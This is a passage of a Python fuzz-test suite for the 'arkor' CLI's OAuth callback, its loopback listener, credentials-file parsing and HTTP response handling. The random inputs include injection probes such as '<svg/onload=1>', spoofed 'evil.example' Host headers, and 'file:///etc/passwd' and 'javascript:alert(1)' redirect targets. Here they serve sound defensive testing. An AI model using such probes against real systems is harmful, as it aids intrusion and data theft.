        self.seconds = float(os.environ.get("ARKOR_FUZZ_SECONDS", "").strip() or self._SECONDS)
        self.shown = int(os.environ.get("ARKOR_FUZZ_SHOW", "").strip() or self._SHOWN)

    # -- the driver ---------------------------------------------------------

    def _rounds(self, target: str, share: float) -> Iterator[tuple[int, Any]]:
        """Iteration numbers, each with its own generator seeded from the run's
        seed, the target and the number (so that an input does not depend on
        the rounds before it), until ``share`` of the budget is spent; then
        check that enough rounds ran."""
        import random

        deadline = time.monotonic() + self.seconds * share
        rounds = 0
        while rounds == 0 or time.monotonic() < deadline:
            yield rounds, random.Random(f"{self.seed}/{target}/{rounds}")
            rounds += 1
        self.assertGreater(
            rounds,
            self._MIN_ITERATIONS,
            f"fuzz {target}: only {rounds} rounds in {self.seconds * share:g} s (ARKOR_FUZZ_SEED={self.seed})",
        )

    def _failure(
        self, target: str, rounds: int, data: object, what: str, exc: BaseException | None = None
    ) -> AssertionError:
        """The failure to raise: what broke, and how to get the input back."""
        import traceback

        shown = repr(data)
        if len(shown) > self.shown:
            shown = f"{shown[: self.shown]}... ({len(shown)} chars; ARKOR_FUZZ_SHOW={len(shown)} shows all)"
        lines = [
            f"fuzz {target}: {what}",
            f"  ARKOR_FUZZ_SEED={self.seed}, iteration {rounds}",
            f"  input: {shown}",
        ]
        if exc is not None:
            trace = traceback.format_exception(type(exc), exc, exc.__traceback__, limit=-4)
            lines.append("  " + "".join(trace).rstrip().replace("\n", "\n  "))
        return self.failureException("\n".join(lines))

    # -- random material ----------------------------------------------------

    @staticmethod
    def _text(rng: Any, limit: int = 24) -> str:
        """Text for a query or a field: URL syntax, percent escapes good and
        bad, every kind of code point (lone surrogates too), now and then huge."""
        pieces: list[str] = []
        for _ in range(rng.choice((0, 1, rng.randint(0, limit), rng.randint(0, limit)))):
            roll = rng.random()
            if roll < 0.3:
                pieces.append(rng.choice("abcxyzABC0189-_.~"))
            elif roll < 0.45:
                pieces.append(rng.choice("&=;?#%+/ :@!$'()*,[]\\\"<>"))
            elif roll < 0.6:
                escape = rng.choice((f"{rng.randrange(256):02x}", f"{rng.randrange(256):02X}", "zz", "4", ""))
                pieces.append("%" + rng.choice((escape, escape, "%", "e2%80%94", "ed%a0%80", "c0%af", "00", "ff")))
            elif roll < 0.85:
                low, high = rng.choice(
                    (
                        (0, 0x20),
                        (0x7F, 0x100),
                        (0x100, 0xD800),
                        (0xD800, 0xE000),
                        (0xE000, 0x10000),
                        (0x10000, 0x110000),
                    )
                )
                pieces.append(chr(rng.randrange(low, high)))
            elif roll < 0.98:
                words = ("\u2014", "\ufeff", "\u202e", "\x00", "\r\n", "\u0130", "\ufffd", "code", "state", "error")
                pieces.append(rng.choice(words))
            else:
                pieces.append(rng.choice("A%\u00e9") * rng.randint(1000, 70000))
        return "".join(pieces)

    @staticmethod
    def _state(rng: Any) -> str:
        """A state as _pkce makes them: 16 random bytes, base64url."""
        import base64

        return base64.urlsafe_b64encode(rng.randbytes(16)).rstrip(b"=").decode("ascii")

    def _near(self, rng: Any, expected: str) -> str:
        """A value for code, state or error: often the right state, or nearly."""
        cut = rng.randrange(len(expected) + 1)
        return str(
            rng.choice(
                (
                    expected,
                    expected,
                    "",
                    "access_denied",
                    expected[:cut],
                    expected + self._text(rng, 3),
                    expected.swapcase(),
                    expected[:cut] + self._text(rng, 2) + expected[cut + 1 :],
                    # What a non-UTF-8 byte becomes, read with surrogateescape.
                    expected[:cut] + rng.choice(("\udcff", "\udced\udca0\udc80", "\x00", "\u00e9")) + expected[cut:],
                    self._text(rng),
                )
            )
        )

    def _query(self, rng: Any, expected: str, encode: bool) -> str:
        """A callback query; percent-encoded throughout when ``encode``."""
        from urllib.parse import quote

        keys = ("code", "state", "error", "error_description", "code", "state")
        parts = []
        for _ in range(rng.choice((0, 1, 2, 3, rng.randint(0, 8)))):
            key = rng.choice(keys) if rng.random() < 0.85 else self._text(rng, 4)
            value = self._near(rng, expected)
            if encode:
                key, value = quote(key, safe="", errors="surrogatepass"), quote(value, safe="", errors="surrogatepass")
            else:
                value = rng.choice(
                    (value, quote(value, safe="", errors="surrogatepass"), quote(quote(value, errors="surrogatepass")))
                )
            parts.append(key + rng.choice(("=", "=", "=", "", "==")) + value)
        if encode:
            return "&".join(parts)
        return rng.choice(("&", "&", ";", "&&", "&amp;")).join(parts)

    def _callback_params(self, rng: Any, expected: str) -> tuple[dict[str, list[str]], object]:
        """What decide() is given: a dict as parse_qs makes them, or parse_qs's
        own reading of garbage that came as a request line (ISO-8859-1, as
        http.server decodes it) or as a pasted line (UTF-8, surrogateescape)."""
        from urllib.parse import parse_qs

        roll = rng.random()
        if roll < 0.3:
            params: dict[str, list[str]] = {}
            for _ in range(rng.randint(0, 5)):
                key = rng.choice(("code", "state", "error", "error_description", self._text(rng, 4)))
                params.setdefault(key, []).extend(self._near(rng, expected) for _ in range(rng.randint(1, 3)))
            return params, params
        if roll < 0.85:
            text = self._query(rng, expected, encode=False)
        else:
            raw = b"".join(
                rng.choice(
                    (rng.randbytes(rng.randint(0, 40)), b"&code=x", b"&state=" + expected.encode(), b"%", b"\xff")
                )
                for _ in range(rng.randint(1, 6))
            )
            text = raw.decode("iso-8859-1")
        how = rng.choice(("str", "http", "paste"))
        if how == "http":
            text = text.encode("utf-8", "surrogatepass").decode("iso-8859-1")
        elif how == "paste":
            text = text.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape")
        return parse_qs(text, keep_blank_values=rng.random() < 0.2), text

    # -- target 1: the callback ----------------------------------------------

    def _check_decision(
        self,
        callback: Any,
        outcome: object,
        params: dict[str, list[str]],
        expected: str,
        fail: Callable[[str], AssertionError],
    ) -> None:
        """The invariants of one first decision, whatever the parameters."""

        def first(key: str) -> str:
            return (params.get(key) or [""])[0]

        if not (isinstance(outcome, tuple) and len(outcome) == 2 and outcome[0] in (200, 400)):
            raise fail(f"first decide() returned {outcome!r}, not (200 | 400, text)")
        status, text = outcome
        if not isinstance(text, str):
            raise fail(f"decide() text is {type(text).__name__}, not str")
        valid = not first("error") and first("code") and first("state") == expected
        if status == 200:
            if not valid:
                raise fail("a callback without a code, with an error, or with the wrong state was accepted")
            if callback.code != first("code") or callback.failure is not None:
                raise fail(f"accepted, but code={callback.code!r} failure={callback.failure!r}")
            return
        if valid:
            raise fail(f"a valid callback was refused: {text!r}")
        failure = callback.failure
        documented = isinstance(failure, str) and (
            failure.startswith(self._AUTH_FAILED) or failure in (self._MISSING, self._MISMATCH)
        )
        if not documented:
            raise fail(f"refused with an undocumented failure {failure!r}")
        if callback.code is not None:
            raise fail(f"refused, yet code={callback.code!r} was kept")

    def test_callback_decide(self) -> None:
        import functools

        for rounds, rng in self._rounds("callback-decide", 0.3):
            expected = self._state(rng)
            params, shown = self._callback_params(rng, expected)
            later, _ = self._callback_params(rng, expected)

            fail = functools.partial(self._failure, "callback-decide", rounds, {"expected": expected, "params": shown})

            callback = arkor_cli._Callback(expected)
            try:
                outcome = callback.decide(params)
            except Exception as exc:  # noqa: BLE001 - any exception is the finding
                raise fail(f"decide() raised {type(exc).__name__}", exc) from None
            self._check_decision(callback, outcome, params, expected, fail)
            code, failure = callback.code, callback.failure
            try:
                again = callback.decide(later)
            except Exception as exc:  # noqa: BLE001 - any exception is the finding
                raise fail(f"a second decide() raised {type(exc).__name__}", exc) from None
            if again is not None or (callback.code, callback.failure) != (code, failure):
                raise fail(f"a second callback changed the outcome: {again!r}")
            if rounds % 10 == 0:
                # Racing callbacks (two tabs): exactly one of them decides.
                results = self._race(arkor_cli._Callback(expected), [params, later, later, params])
                decided = [r for r in results if r is not None]
                if len(results) != 4 or len(decided) != 1 or isinstance(decided[0], BaseException):
                    raise fail(f"racing callbacks: {results!r}")

    @staticmethod
    def _race(callback: Any, param_sets: list[dict[str, list[str]]]) -> list[object]:
        """decide() from one thread per parameter set, all at once."""
        import threading

        results: list[object] = []
        barrier = threading.Barrier(len(param_sets))

        def race(mine: dict[str, list[str]]) -> None:
            barrier.wait()
            try:
                results.append(callback.decide(mine))
            except Exception as exc:  # noqa: BLE001 - the caller reports it
                results.append(exc)

        threads = [threading.Thread(target=race, args=(p,)) for p in param_sets]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(10)
        return results

    def test_callback_pasted(self) -> None:
        """A pasted address goes through the same decision, from a thread."""
        import contextlib
        import functools
        import io
        import threading

        for rounds, rng in self._rounds("callback-pasted", 0.2):
            expected = self._state(rng)
            query = self._query(rng, expected, encode=rng.random() < 0.5)
            line = rng.choice(
                (
                    f"http://127.0.0.1:{rng.randint(1, 65535)}/callback?{query}",
                    f"http://localhost/callback?{query}#{self._text(rng, 3)}",
                    query,
                    f"http://[{self._text(rng, 3)}/callback?{query}",
                    f"{self._text(rng, 4)}?{query}",
                    self._text(rng),
                )
            )
            # What a terminal hands over: the UTF-8 bytes pasted, read in a
            # strict locale or under a C/POSIX one (surrogateescape).
            line = line.encode("utf-8", "surrogatepass").decode("utf-8", rng.choice(("replace", "surrogateescape")))
            line = line.replace("\r", "").replace("\n", "")

            fail = functools.partial(self._failure, "callback-pasted", rounds, {"expected": expected, "line": line})

            callback = arkor_cli._Callback(expected)
            term = arkor_cli._Terminal(io.StringIO(line + "\n"), io.StringIO(), io.StringIO(), {})
            err = io.StringIO()
            with contextlib.redirect_stderr(err):
                before = set(threading.enumerate())
                arkor_cli._accept_pasted_url(callback, term)
                for thread in set(threading.enumerate()) - before:
                    thread.join(10)
            if err.getvalue():
                raise fail(f"reading the pasted line printed to stderr:\n{err.getvalue()[-1500:]}")
            if callback.done.is_set():
                if (callback.code is None) == (callback.failure is None):
                    raise fail(f"done, with code={callback.code!r} failure={callback.failure!r}")
                continue
            # Not decided by the paste: the browser's callback must still count.
            outcome = callback.decide({"code": ["c"], "state": [expected]})
            if outcome is None or outcome[0] != 200:
                raise fail("after the paste the login can no longer be decided (a valid callback is refused)")

    def _listener_request(self, rng: Any, port: int, expected: str) -> tuple[bytes, str, str | None]:
        """A raw request, how to deliver it, and what arkor must answer when
        the request is well formed: "callback", "404", "bad-host", or just
        "answer" (some HTTP answer, not a dropped connection); else None."""
        from urllib.parse import quote

        roll = rng.random()
        if roll < 0.08:
            junk = rng.choice((rng.randbytes(rng.randint(0, 3000)), b"\x16\x03\x01\x02\x00\x01" + rng.randbytes(300)))
            return junk, rng.choice(("halfclose", "halfclose", "close", "rst", "slow")), None
        clean = True
        method = "GET"
        if rng.random() < 0.25:
            clean = False
            method = rng.choice(("POST", "HEAD", "PUT", "OPTIONS", "CONNECT", "get", "", "G\x00T", "<svg/onload=1>"))
        query = self._query(rng, expected, encode=True)
        if rng.random() < 0.2:
            query = self._text(rng)
            if rng.random() < 0.5:
                query = quote(query, safe="=&%;", errors="surrogatepass")
            else:
                clean = False  # spaces and line breaks break the request line
        encoded = query
        target_roll = rng.random()
        expect: str | None = "callback"
        if target_roll < 0.5:
            target = f"/callback?{encoded}"
        elif target_roll < 0.6:
            target = f"http://127.0.0.1:{port}/callback?{encoded}"
        elif target_roll < 0.75:
            target = rng.choice(
                ("/favicon.ico", "/", "/callback/", "/CALLBACK", "/callbackx", "/x/callback", "/%63allback")
            )
            expect = "404"
        elif target_roll < 0.9:
            # Odd but whole request targets: each still gets an answer.
            target = rng.choice(
                (
                    f"//callback?{encoded}",
                    "*",
                    f"http://[/callback?{encoded}",
                    f"http://[::1]:x/callback?{encoded}",
                    f"http://127.0.0.1:99999/callback?{encoded}",
                    f"/callback?<svg/onload=1>&{encoded}",
                )
            )
            expect = "answer"
        else:
            target = rng.choice((f"/callback?{self._text(rng)}", self._text(rng)))
            expect = None
        version = "HTTP/1.1" if rng.random() < 0.6 else "HTTP/1.0"
        if rng.random() < 0.15:
            clean = False
            version = rng.choice(
                ("", "HTTP/2.0", "HTTP/1.1.1", "HTTP/1", "http/1.1", "HTTP/1.x", "HTTP/1.1 x", "<svg>")
            )
        good = [f"127.0.0.1:{port}", f"localhost:{port}", f"LocalHost:{port}"]
        bad = ["evil.example", f"127.0.0.1:{port + 1}", "127.0.0.1", "", f"[::1]:{port}", f"evil.example:{port}"]
        headers = []
        host_roll = rng.random()
        if host_roll < 0.6:
            headers.append(f"Host: {rng.choice(good)}")
        elif host_roll < 0.8:
            headers.append(f"Host: {rng.choice(bad)}")
            expect = "bad-host" if expect not in (None, "answer") else expect
        elif host_roll < 0.9:
            expect = "bad-host" if expect not in (None, "answer") else expect  # no Host at all
        else:
            headers.append(f"Host: {rng.choice(good + bad)}")
            headers.append(f"Host: {rng.choice(good + bad)}")
            expect = "answer" if expect is not None else None
        for _ in range(rng.choice((0, 0, 1, 2, rng.randint(0, 8)))):
            if rng.random() < 0.6:
                headers.append(
                    rng.choice(("Connection: keep-alive", "Accept: */*", "User-Agent: fuzz", "Connection: close"))
                )
            else:
                clean = False
                headers.append(
                    rng.choice(
                        (
                            "Expect: 100-continue",
                            "no colon here",
                            " folded continuation",
                            f"X-{self._text(rng, 3)}: {self._text(rng)}",
                            "X-Big: " + "b" * rng.randint(60000, 70000),
                            "Content-Length: 5\r\n\r\nhello",
                            "Transfer-Encoding: chunked",
                            "\x00\xff: \xfe",
                        )
                    )
                )
        if rng.random() < 0.03:
            clean = False
            headers.extend(f"X-{n}: {n}" for n in range(rng.randint(90, 150)))
        eol = "\r\n"
        if rng.random() < 0.1:
            clean = False
            eol = rng.choice(("\n", "\r", "\r\r\n"))
        text = f"{method} {target} {version}{eol}" + "".join(h + eol for h in headers) + eol
        raw = text.encode("utf-8", "surrogatepass")
        if len(raw.partition(b"\n")[0]) > 65536 or any(len(h) > 65536 for h in headers):
            clean = False  # over http.server's line limit: its own 414 or 431
        if rng.random() < 0.05:
            clean = False
            raw = raw[: rng.randrange(len(raw) + 1)]
        if rng.random() < 0.02:
            clean = False
            raw = b"GET /callback?" + b"a" * rng.randint(65000, 70000) + b" HTTP/1.1\r\n\r\n"
        mode = "halfclose" if rng.random() < 0.8 else rng.choice(("slow", "close", "rst", "silent"))
        return raw, mode, (expect if clean and mode in ("halfclose", "slow") else None)

    @staticmethod
    def _send_raw(port: int, raw: bytes, mode: str, rng: Any) -> bytes | None:
        """Deliver ``raw``; return all that came back, or None when the
        delivery does not wait for an answer (or the server cut it off)."""

        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            try:
                if mode == "silent":
                    return None
                send_in_pieces(sock, raw, rng.randint(1, 6) if mode == "slow" else 1)
                if mode == "rst":
                    reset_on_close(sock)
                    return None
                if mode == "close":
                    return None
                sock.shutdown(socket.SHUT_WR)
            except OSError:
                return None  # cut off mid-send: an oversized request, say
            chunks = []
            while True:
                try:
                    chunk = sock.recv(65536)
                except ConnectionResetError:
                    break
                if not chunk:
                    break
                chunks.append(chunk)
            return b"".join(chunks)

    @staticmethod
    def _parse_answer(data: bytes) -> tuple[int, dict[str, str], bytes] | None:
        """Status, headers (lower-cased, first of each) and body; None when
        the bytes are not an HTTP/1.x answer. Interim 100s are skipped."""
        while True:
            head, sep, body = data.partition(b"\r\n\r\n")
            lines = head.decode("iso-8859-1").split("\r\n")
            words = lines[0].split()
            if not sep or len(words) < 2 or not words[0].startswith("HTTP/1.") or not words[1].isdigit():
                return None
            if words[1] != "100":
                break
            data = body
        headers: dict[str, str] = {}
        for line in lines[1:]:
            name, _, value = line.partition(":")
            headers.setdefault(name.strip().lower(), value.strip())
        return int(words[1]), headers, body

    def test_callback_listener(self) -> None:
        """The real loopback listener, fed junk over raw sockets."""
        import contextlib
        import functools
        import io
        import threading

        probe = "GET /favicon.ico HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
        err = io.StringIO()
        retired: list[tuple[Any, threading.Thread]] = []
        with contextlib.redirect_stderr(err):
            expected = "fuzz-state"
            callback = arkor_cli._Callback(expected)
            server = arkor_cli._listen([0], callback)
            previous: object = None
            try:
                for rounds, rng in self._rounds("callback-listener", 0.5):
                    port = server.server_address[1]
                    raw, mode, expect = self._listener_request(rng, port, expected)
                    shown = {"port": port, "mode": mode, "request": raw}

                    fail = functools.partial(self._failure, "callback-listener", rounds, shown)

                    try:
                        data = self._send_raw(port, raw, mode, rng)
                    except socket.timeout:
                        raise fail("the listener held the connection 10 s after the request ended") from None
                    except OSError as exc:
                        raise fail(f"could not connect to the listener: {exc!r}") from None
                    answer = self._parse_answer(data) if data else None
                    if answer is not None:
                        status, headers, body = answer
                        kind = headers.get("content-type", "")
                        if kind.startswith("text/html") and status != 200 and b"<svg" in body.lower():
                            raise fail(f"an HTML error page ({status}) echoes markup from the request")
                        if status == 200 and callback.code is None:
                            raise fail("200 without a code accepted")
                    if expect is not None and answer is None:
                        raise fail(f"no HTTP answer to a whole request: {data!r}")
                    if answer is not None and expect not in (None, "answer"):
                        status, headers, body = answer
                        wanted = {"callback": (200, 400, 409), "404": (404,), "bad-host": (400,)}[expect]
                        if status not in wanted:
                            raise fail(f"answered {status}, expected one of {wanted} ({expect})")
                        kind = headers.get("content-type", "")
                        if status != 200 and kind != "text/plain; charset=utf-8":
                            raise fail(f"a {status} answer has Content-Type {kind!r}, not text/plain")
                        if headers.get("x-content-type-options", "").lower() != "nosniff":
                            raise fail(f"a {status} answer lacks X-Content-Type-Options: nosniff")
                    if mode in ("close", "rst", "silent"):
                        time.sleep(0.005)  # let the server see the end of it before the probe
                    try:
                        data = self._send_raw(port, probe.format(port=port).encode(), "halfclose", rng)
                    except OSError as exc:  # a timeout too
                        raise fail(f"the listener stopped accepting: {exc!r}") from None
                    answer = self._parse_answer(data or b"")
                    if answer is None or answer[0] != 404:
                        raise fail(f"the listener stopped answering: the probe got {data!r}")
                    if err.getvalue():
                        raise fail(
                            "the listener printed to stderr (this input, or the one before it:"
                            f" {previous!r:.{self.shown}}):\n{err.getvalue()[-2000:]}"
                        )
                    previous = shown
                    if callback.done.is_set():
                        # Decided: listen afresh so that decide() stays in reach.
                        stop = threading.Thread(target=server.shutdown, daemon=True)
                        stop.start()
                        retired.append((server, stop))
                        callback = arkor_cli._Callback(expected)
                        server = arkor_cli._listen([0], callback)
            finally:
                server.shutdown()
                server.server_close()
                for old, stop in retired:
                    stop.join(10)
                    old.server_close()
            time.sleep(0.05)
        self.assertEqual(err.getvalue(), "", f"the listener printed to stderr at the end (ARKOR_FUZZ_SEED={self.seed})")

    # -- target 2: the credentials file ----------------------------------------

    @staticmethod
    def _credential_fields(mode: str) -> dict[str, tuple[type, ...]]:
        """The shape of each mode, spelled out: the test must fail if it drifts."""
        if mode == "anon":
            return {"token": (str,), "anonymousId": (str,), "arkorCloudApiUrl": (str,), "orgSlug": (str,)}
        return {
            "accessToken": (str,),
            "refreshToken": (str,),
            "expiresAt": (int, float),
            "auth0Domain": (str,),
            "audience": (str,),
            "clientId": (str,),
            "arkorCloudApiUrl": (str,),
        }

    def _json_value(self, rng: Any, depth: int = 2) -> object:
        """Any JSON value, scalars weighted: every type, and the odd extremes."""
        roll = rng.random()
        if depth > 0 and roll < 0.12:
            return [self._json_value(rng, depth - 1) for _ in range(rng.randint(0, 3))]
        if depth > 0 and roll < 0.24:
            return {self._text(rng, 4): self._json_value(rng, depth - 1) for _ in range(rng.randint(0, 3))}
        return rng.choice(
            (
                None,
                True,
                False,
                0,
                -1,
                rng.randint(-(2**70), 2**70),
                1.5,
                -0.0,
                1e308,
                2**53 + 1,
                "",
                "x",
                self._text(rng),
                float(rng.randint(0, 2**40)),
            )
        )

    def _deep(self, rng: Any) -> str:
        """Nesting deep enough to trouble a recursive parser, or just under."""
        depth = rng.choice(
            (rng.randint(1, 50), rng.randint(50, 900), rng.randint(900, 1100), rng.randint(1100, 200000))
        )
        opener, closer = rng.choice((("[", "]"), ('{"a":', "}"), ('[{"a":', "}]")))
        return opener * depth + rng.choice(("1", "null", '""')) + closer * depth * rng.choice((1, 1, 1, 0))

    def _credentials_text(self, rng: Any) -> str:
        """Credentials JSON, valid or mutated every way JSON can be."""
        if rng.random() < 0.08:
            return self._text(rng, 60) if rng.random() < 0.7 else self._deep(rng)
        mode = rng.choice(("anon", "auth0", "oauth"))
        fields = self._credential_fields(mode)
        doc: list[tuple[str, object]] = [("mode", mode)]
        for field, types in fields.items():
            doc.append((field, int(time.time()) + 3600 if types != (str,) else f"{field}-{rng.randrange(10**6)}"))
        for _ in range(rng.choice((0, 0, 1, 2, rng.randint(0, 6)))):
            doc.insert(rng.randrange(len(doc) + 1), (self._text(rng, 6), self._json_value(rng)))
        raw_values: dict[int, str] = {}
        for _ in range(rng.choice((0, 1, 1, 2, rng.randint(0, 5)))):
            at = rng.randrange(len(doc))
            key, value = doc[at]
            action = rng.random()
            if action < 0.2:
                del doc[at]
                if not doc:
                    doc.append(("mode", mode))
            elif action < 0.35:
                doc[at] = (
                    rng.choice((key.upper(), key + " ", " " + key, key[:-1], key + "\u200b", "m\u043ede")),
                    value,
                )
            elif action < 0.5:
                doc.insert(at + rng.randint(0, 1), (key, self._json_value(rng)))  # a duplicate key
            elif action < 0.8:
                doc[at] = (key, self._json_value(rng))
            elif action < 0.9:
                raw_values[at] = rng.choice(
                    ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * rng.randint(4000, 5000))
                )
            else:
                raw_values[at] = self._deep(rng)
        if rng.random() < 0.1:
            doc = [
                (k, rng.choice(("ANON", "anon ", "Auth0", "oauth2", "", None, 1, ["anon"], {"mode": "anon"})))
                if k == "mode"
                else (k, v)
                for k, v in doc
            ]
        ascii_only = rng.random() < 0.5
        members = [
            json.dumps(k, ensure_ascii=ascii_only) + ":" + raw_values.get(n, json.dumps(v, ensure_ascii=ascii_only))
            for n, (k, v) in enumerate(doc)
        ]
        text = rng.choice(("{", "{\n  ", " {")) + rng.choice((",", ", ", ",\n  ")).join(members) + "}"
        for _ in range(rng.choice((0, 0, 0, 1, 2))):
            at = rng.randrange(len(text) + 1)
            text = rng.choice(
                (
                    text[:at],  # truncated
                    text[:at] + self._text(rng, 3) + text[at + 1 :],
                    text[:at] + chr(rng.randrange(0x110000)) + text[at:],
                    "\ufeff" + text,
                    text + rng.choice((",", "}", "]", " // comment", "\x00", " {}")),
                    "[" + text + "]",
                )
            )
        return text

    def _check_credentials(self, result: object, fail: Callable[[str], AssertionError]) -> None:
        if not isinstance(result, dict):
            raise fail(f"returned {type(result).__name__}, not a dict")
        mode = result.get("mode")
        if mode not in ("anon", "auth0"):
            raise fail(f"returned mode {mode!r}")
        for field, types in self._credential_fields(mode).items():
            value = result.get(field)
            if isinstance(value, bool) or not isinstance(value, types):
                raise fail(f"returned {field}={value!r:.80}, not {' or '.join(t.__name__ for t in types)}")

    def test_credentials_text(self) -> None:
        import functools

        path = os.path.join(tempfile.gettempdir(), "arkor-fuzz", ".arkor", "credentials.json")
        for rounds, rng in self._rounds("credentials-text", 0.5):
            text = self._credentials_text(rng)

            fail = functools.partial(self._failure, "credentials-text", rounds, text)

            try:
                result = arkor_cli._parse_credentials(text, path)
            except arkor_cli.ArkorError as exc:
                if not exc.message.startswith(path):
                    raise fail(f"the error does not start with the path: {exc.message!r:.200}") from None
                continue
            except Exception as exc:  # noqa: BLE001 - any other exception is the finding
                raise fail(f"_parse_credentials raised {type(exc).__name__}", exc) from None
            self._check_credentials(result, fail)
            # Parsed, so json parses it too: "oauth" (newer Node releases) reads as "auth0".
            written = json.loads(text).get("mode")
            if {"anon": "anon", "auth0": "auth0", "oauth": "auth0"}.get(written) != result["mode"]:
                raise fail(f"mode {written!r} was read as {result['mode']!r}")

    def test_credentials_file(self) -> None:
        import functools

        home = tempfile.mkdtemp(prefix="arkor fuzz \u00e9-")
        self.addCleanup(shutil.rmtree, home, True)
        path = os.path.join(home, "credentials.json")
        for rounds, rng in self._rounds("credentials-file", 0.5):
            text = self._credentials_text(rng)
            encoding = rng.choice(("utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1"))
            raw = text.encode(encoding, "replace" if encoding == "latin-1" else "surrogatepass")
            for _ in range(rng.choice((0, 0, 1, 3))):
                at = rng.randrange(len(raw) + 1)
                raw = (
                    raw[:at]
                    + rng.choice((rng.randbytes(1), b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00"))
                    + raw[at + 1 :]
                )
            if rng.random() < 0.01:
                raw += b" " * (1024 * 1024 + 1 - len(raw)) + rng.randbytes(rng.randint(0, 3))
            with open(path, "wb") as f:
                f.write(raw)

            fail = functools.partial(self._failure, "credentials-file", rounds, raw)

            try:
                result = arkor_cli._read_credentials(path)
            except arkor_cli.ArkorError as exc:
                if not (exc.message.startswith(path) or exc.message.startswith(f"Cannot read {path}")):
                    raise fail(f"the error does not name the file first: {exc.message!r:.200}") from None
                continue
            except Exception as exc:  # noqa: BLE001 - any other exception is the finding
                raise fail(f"_read_credentials raised {type(exc).__name__}", exc) from None
            self._check_credentials(result, fail)

    # -- target 3: HTTP answers --------------------------------------------------

    class _Garbage:
        """A TCP server on 127.0.0.1 that answers each connection with what
        ``answer()`` returns (the bytes, and how to deliver them), one at a
        time, and keeps what it was sent and what it answered."""

        def __init__(self) -> None:
            import threading

            self.listener = socket.socket()
            self.listener.bind(("127.0.0.1", 0))
            self.listener.listen(16)
            self.listener.settimeout(0.05)
            self.port: int = self.listener.getsockname()[1]
            self.answer: Callable[[], tuple[bytes, str]] = lambda: (b"", "all")
            self.requests: list[bytes] = []
            self.answers: list[tuple[bytes, str]] = []
            self._stopping = threading.Event()
            self._thread = threading.Thread(target=self._serve, name="fuzz-garbage", daemon=True)
            self._thread.start()

        def stop(self) -> None:
            self._stopping.set()
            self._thread.join(10)
            self.listener.close()

        def _serve(self) -> None:
            while not self._stopping.is_set():
                try:
                    conn, _ = self.listener.accept()
                except socket.timeout:
                    continue
                except OSError:
                    return
                with conn:
                    try:
                        self._one(conn)
                    except OSError:
                        pass  # the client gave up: that is its right

        def _one(self, conn: socket.socket) -> None:

            answer = self.answer()
            self.answers.append(answer)
            data, mode = answer
            # Read the request first (an FTP client waits to be spoken to: not long).
            request = b""
            conn.settimeout(0.2)
            try:
                while b"\r\n\r\n" not in request and len(request) < 65536:
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    request += chunk
                    conn.settimeout(0.02)
            except socket.timeout:
                pass
            self.requests.append(request)
            conn.settimeout(5)
            if mode == "none":
                return
            if mode == "cut":
                data = data[: len(data) // 2]
            send_in_pieces(conn, data, 4 if mode == "split" else 1)
            if mode == "rst":
                reset_on_close(conn)
                return
            conn.shutdown(socket.SHUT_WR)

    def _garbage_body(self, rng: Any) -> bytes:
        roll = rng.random()
        if roll < 0.4:
            doc: object = {
                "user": rng.choice((self._json_value(rng, 3), {"id": "u", "email": self._text(rng)})),
                "orgs": rng.choice(
                    (
                        self._json_value(rng, 2),
                        [{"slug": self._json_value(rng, 1), "id": self._json_value(rng, 1)} for _ in range(3)],
                    )
                ),
            }
            if rng.random() < 0.2:
                doc = self._json_value(rng, 3)
            if rng.random() < 0.2:
                doc = {
                    "error": "sdk_version_unsupported",
                    "currentVersion": self._json_value(rng, 1),
                    "supportedRange": self._json_value(rng, 1),
                }
            body = json.dumps(doc, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
            return rng.choice((body, body, b"\xef\xbb\xbf" + body, body[: rng.randrange(len(body) + 1)]))
        if roll < 0.5:
            return ('{"user": ' + self._deep(rng) + ', "orgs": []}').encode()
        if roll < 0.55:
            return ('{"user": ' + "9" * rng.randint(4000, 5000) + "}").encode()
        if roll < 0.6:
            return b'{"user": {"a": NaN, "b": -Infinity}, "orgs": [Infinity]}'
        if roll < 0.62:
            return b"x" * (1024 * 1024 + rng.randint(-2, 2))
        if roll < 0.85:
            return rng.randbytes(rng.randint(0, 600))
        return b""

    def _location(self, rng: Any, port: int, closed: int) -> str:
        """Where a redirect points: this server, a closed port, other schemes,
        broken URLs. Only loopback hosts, and garbage never holds a slash
        (no garbage can name a host to go and ask)."""
        base = f"http://127.0.0.1:{port}"
        bad_port = rng.choice(("99999", "abc", "-1", "0", "65536", "", "1_0", "\u00b2"))
        garbage = "".join(c for c in self._text(rng) if c not in "/\\")
        return str(
            rng.choice(
                (
                    f"{base}/v1/me",
                    "/v1/me",
                    "/",
                    "?x=1",
                    "",
                    f"//127.0.0.1:{port}/v1/me",
                    f"http://localhost:{port}/v1/me",
                    f"http://[::1]:{port}/",
                    f"http://127.0.0.1:{closed}/",
                    f"https://127.0.0.1:{port}/",
                    f"ftp://127.0.0.1:{port}/x",
                    f"ftp://127.0.0.1:{closed}/x",
                    "file:///etc/passwd",
                    "data:,hello",
                    "javascript:alert(1)",
                    f"http://127.0.0.1:{bad_port}/",
                    "http://[",
                    "http://[::1",
                    "http://[zz]/",
                    f"{base}/{'a' * rng.randint(1, 70000)}",
                    f"{base}/\u00e9?\u00ff",
                    garbage,
                    "http:" + garbage,
                )
            )
        )

    def _garbage_answer(self, rng: Any, port: int, closed: int) -> tuple[bytes, str]:
        body = self._garbage_body(rng)
        if rng.random() < 0.8:
            code = rng.choice(
                (200, 200, 200, 201, 204, 301, 302, 303, 307, 308, 304, 400, 401, 401, 403, 404, 426, 426, 500, 503)
                + (100, 101, 199, 299, 600, 999, rng.randint(100, 999))
            )
            status = f"HTTP/1.{rng.choice('10')} {code} {self._text(rng, 4)}".encode("utf-8", "surrogatepass")
        else:
            status = rng.choice(
                (
                    b"",
                    b"HTTP/1.1",
                    b"HTTP/1.1 abc OK",
                    b"HTTP/2 200",
                    b"ICY 200 OK",
                    b"HTTP/1.1 -200 X",
                    b"HTTP/1.1 2000 X",
                    b"HTTP/1.1 99 X",
                    rng.randbytes(rng.randint(1, 40)),
                    b"HTTP/1.1 200 " + b"x" * 70000,
                    b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK",
